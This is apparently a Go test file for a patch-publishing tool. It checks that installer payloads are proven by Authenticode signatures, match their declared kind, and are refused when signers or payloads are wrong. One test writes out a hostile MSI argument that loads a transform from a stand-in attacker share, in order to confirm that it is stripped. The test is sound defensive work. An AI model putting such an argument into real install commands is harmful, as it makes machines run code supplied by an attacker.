package lab_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/fettlehq/fettle/internal/authentic/authenticode"
	"github.com/fettlehq/fettle/internal/fault"
	"github.com/fettlehq/fettle/internal/patch"
	"github.com/fettlehq/fettle/internal/publisher/lab"
)

const signed = "../../authentic/authenticode/testdata"

// bench is a lab with payloads of a folder.
type bench struct {
	t     *testing.T
	lab   *lab.Lab
	files map[string]string // by hash
	asked int
	now   time.Time
}

func newBench(t *testing.T) *bench {
	t.Helper()
	l, err := lab.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	text, err := os.ReadFile(filepath.Join(signed, "root.pem"))
	if err != nil {
		t.Fatal(err)
	}
	roots, err := authenticode.ParseRoots(text)
	if err != nil {
		t.Fatal(err)
	}
	l.Believe(lab.Code{Roots: roots, TimestampRoots: roots})
	return &bench{t: t, lab: l, files: map[string]string{}, now: time.Date(2024, 7, 1, 0, 0, 0, 0, time.UTC)}
}

func (b *bench) open(sha256 string) (lab.File, error) {
	b.asked++
	path, ok := b.files[sha256]
	if !ok {
		return nil, fault.New(fault.NotFound, "test: no such payload")
	}
	return os.Open(path)
}

// program is the patch of a file, called a kind.
func (b *bench) program(file, kind, version string) patch.Patch {
	b.t.Helper()
	path := filepath.Join(signed, file)
	data, err := os.ReadFile(path)
	if err != nil {
		b.t.Fatal(err)
	}
	b.files[hash(data)] = path
	payload := patch.Payload{SHA256: hash(data), Size: int64(len(data)), Name: file}
	return patch.Patch{
		ID: patch.ID(file + kind + version), Vendor: "winget", Product: "Acme.App", Version: version,
		Install: patch.Manifest{Kind: kind, Argv: words(kind), Scope: "machine"},
		Items:   []patch.Item{{Kind: "arp", Name: "app", Version: version, Payload: payload}, {Kind: "app", Name: "app|acme", Version: version, Payload: payload}},
	}
}

// words are what a manifest of the kind says.
func words(kind string) []string {
	switch kind {
	case "exe":
		return []string{"{payload}"}
	case "msi", "msp":
		return []string{"ADDLOCAL=ALL"}
	}
	return nil
}

func (b *bench) judge(ps ...patch.Patch) ([]patch.Patch, []lab.Rejection) {
	b.t.Helper()
	if err := b.lab.Examine(b.t.Context(), ps, b.open, b.now); err != nil {
		b.t.Fatal(err)
	}
	return b.lab.Judge(ps, nil)
}

// TestPrograms: a program counts by its maker's signature and by what it is.
func TestPrograms(t *testing.T) {
	for _, c := range []struct {
		name   string
		change func(*bench, *patch.Patch)
		file   string
		kind   string
		says   string // "" is proven
	}{
		{"good.msi", nil, "good.msi", "msi", ""},
		{"good.exe", nil, "good.exe", "exe", ""},
		{"good.cab", nil, "good.cab", "msu", ""},
		{"a cabinet for a package", nil, "good.cab", "msix", "the manifest calls it msix"},
		{"a program called a package", nil, "good.exe", "msi", "it is a signed pe file, the manifest calls it msi"},
		{"a package called a program", nil, "good.msi", "exe", "it is a signed msi file"},
		{"unsigned", nil, "plain.exe", "exe", "nothing is installed from it: "},
		{"not fetched", func(b *bench, _ *patch.Patch) { clear(b.files) }, "good.msi", "msi", "was not examined"},
		{"another size", func(_ *bench, p *patch.Patch) { p.Items[0].Payload.Size++; p.Items[1].Payload.Size++ }, "good.msi", "msi", "nothing is installed from it: "},
		{"the source's reason", func(_ *bench, p *patch.Patch) {
			p.Items[0].Payload, p.Items[1].Payload = patch.Payload{}, patch.Payload{}
			p.Evidence.Checks = []string{"it was too large"}
		}, "good.msi", "msi", "it was too large"},
		{"no payload", func(_ *bench, p *patch.Patch) {
			p.Items[0].Payload, p.Items[1].Payload = patch.Payload{}, patch.Payload{}
		}, "good.msi", "msi", "no payload is named"},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := newBench(t)
			p := b.program(c.file, c.kind, "1.0")
			if c.change != nil {
				c.change(b, &p)
			}
			kept, rejected := b.judge(p)
			if len(kept) != 1 || len(rejected) != 0 {
				t.Fatalf("kept %+v, rejected %+v", kept, rejected)
			}
			e, it := kept[0].Evidence, kept[0].Items[1]
			if c.says == "" {
				if e.Verdict != patch.Proven || it.Payload.Signer == "" || len(kept[0].Install.Argv) != len(p.Install.Argv) || p.Items[0].Payload.Signer != "" {
					t.Errorf("%+v %+v", e, it)
				}
				return
			}
			if e.Verdict != patch.Unproven || !strings.Contains(e.Checks[0], c.says) || it.Payload != (patch.Payload{}) || kept[0].Install.Argv != nil || kept[0].Install.Scope != "machine" {
				t.Errorf("%+v %+v, want %q", e, kept[0], c.says)
			}
		})
	}
}

// TestProgramsOnce: a payload is looked at once, until other roots count.
func TestProgramsOnce(t *testing.T) {
	b := newBench(t)
	p := b.program("good.msi", "msi", "1.0")
	b.judge(p, p)
	b.judge(p)
	if b.asked != 1 {
		t.Errorf("looked at %d times", b.asked)
	}
	b.lab.Believe(lab.Code{})
	kept, _ := b.judge(p)
	if b.asked != 2 || kept[0].Evidence.Verdict != patch.Unproven || !strings.Contains(kept[0].Evidence.Checks[0], "no roots") {
		t.Errorf("without roots: %d, %+v", b.asked, kept[0].Evidence)
	}
}

// TestProgramsRefused: several payloads in one patch, a signer that is not the
// product's, and a damaged file of signers.
func TestProgramsRefused(t *testing.T) {
	b := newBench(t)
	p, q := b.program("good.msi", "msi", "1.0"), b.program("good.exe", "exe", "2.0")
	mixed := p
	mixed.Items = []patch.Item{p.Items[0], q.Items[1]}
	if _, rejected := b.judge(mixed); len(rejected) != 1 || !strings.Contains(rejected[0].Reason, "several payloads") {
		t.Errorf("mixed: %+v", rejected)
	}
	believed := b.lab.Believed()
	believed.Publishers = map[string]string{"acme.APP": "Somebody Else"}
	b.lab.Believe(believed)
	if _, rejected := b.judge(p); len(rejected) != 1 || !strings.Contains(rejected[0].Reason, "must be signed by Somebody Else") {
		t.Errorf("wrong signer: %+v", rejected)
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "signers.json"), []byte("{"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := lab.Open(dir); !fault.Is(err, fault.Invalid) || !strings.Contains(fault.HintOf(err), "backup") {
		t.Errorf("damaged signers: %v", err)
	}
}

// TestTrustRow2HostileCommand: a genuine program with a command that brings
// other code, as a hostile manifest would have it, is a bulletin; of others the
// command stands where people approve.
func TestTrustRow2HostileCommand(t *testing.T) {
	b := newBench(t)
	p := b.program("good.msi", "msi", "1.0")
	p.Install.Argv = []string{`TRANSFORMS=\\attacker.example\share\evil.mst`}
	kept, rejected := b.judge(p)
	if len(kept) != 1 || len(rejected) > 0 {
		t.Fatal(kept, rejected)
	}
	if got := kept[0]; got.Evidence.Verdict != patch.Unproven || len(got.Install.Argv) > 0 || got.Items[0].Payload != (patch.Payload{}) ||
		!strings.Contains(got.Evidence.Checks[0], "TRANSFORMS") {
		t.Errorf("%+v", got)
	}
	kept, _ = b.judge(b.program("good.msi", "msi", "1.0"))
	if e := kept[0].Evidence; e.Verdict != patch.Proven || !strings.Contains(strings.Join(e.Checks, "\n"), "with ADDLOCAL=ALL") {
		t.Errorf("%+v", e)
	}
}
